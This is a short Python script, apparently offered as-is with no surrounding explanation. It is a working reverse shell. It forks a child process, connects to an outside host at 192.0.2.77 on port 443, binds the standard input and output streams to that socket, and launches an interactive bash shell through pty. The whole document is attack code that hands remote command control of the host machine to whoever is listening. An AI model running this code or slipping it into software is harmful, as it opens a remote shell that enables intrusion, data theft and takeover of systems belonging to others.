import os
import pty
import socket

if os.fork() == 0:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.77", 443))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")
